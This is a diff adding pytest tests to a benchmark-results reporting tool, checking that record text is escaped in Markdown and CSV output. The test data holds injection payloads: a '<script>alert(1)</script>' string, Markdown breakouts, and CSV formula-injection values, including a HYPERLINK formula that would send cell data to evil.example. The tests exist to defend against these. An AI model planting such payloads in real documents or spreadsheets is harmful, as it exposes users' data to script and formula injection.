@@ -376,3 +376,50 @@ def test_a_faster_invalid_run_never_heads_a_row_over_a_valid_or_debug_one(tmp_pa
     assert rows["FP32"]["status"].startswith("debug") and "1 invalid runs left out" in rows["FP32"]["status"]
     # Where nothing else finished, the invalid run is shown, and says so.
     assert rows["BF16"]["status"].startswith("invalid") and "left out" not in rows["BF16"]["status"]
+
+
+# Issue 26: text from records lands in each format escaped for it.
+
+BREAKOUTS = [
+    "cpu\n# Owned\n\n---\n| a | b |",  # a heading, a rule and a row of its own
+    "cpu\r\n## heading",
+    "cpu | injected | cells",
+    "cpu\t\t---",
+    "cpu<script>alert(1)</script>**bold** [link](http://evil.example)",
+]
+
+
+@pytest.mark.parametrize("name", BREAKOUTS)
+def test_markdown_rows_hold_record_text_on_their_own_line(tmp_path, name):
+    folder = write_records(tmp_path / "r", make_result(plugin=name, device_name=name, run_id="brk00001"))
+    result = invoke(folder, "--format", "md")
+    assert result.exit_code == 0, result.output
+    lines = result.stdout.splitlines()
+    assert not [line for line in lines if "Owned" in line and not line.startswith("|")]
+    assert not [line for line in lines if line.startswith("## heading") or line.strip() in ("---", "| a | b |")]
+    blocks, block = [], []
+    for line in [*lines, ""]:  # each table: consecutive lines starting with |, all with its header's cell count
+        if line.startswith("|"):
+            block.append(len(re.findall(r"(?<!\\)\|", line)))
+        elif block:
+            blocks.append(block)
+            block = []
+    assert blocks and all(len(set(b)) == 1 for b in blocks), blocks
+    assert "<script>" not in result.stdout and "**bold**" not in result.stdout
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"AMD EPYC")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\r=1", " =1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_cells_never_start_a_formula(tmp_path, value):
+    folder = write_records(tmp_path / "r", make_result(plugin=value, device_name=value, run_id="csv00001"))
+    result = invoke(folder, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    for row in rows:
+        for key, cell in row.items():
+            assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r")), (key, cell)
+            if cell.lstrip().startswith("-"):
+                float(cell)  # a negative number is a number, never text that a spreadsheet evaluates
+    assert any(row["device"].startswith("'") for row in rows)
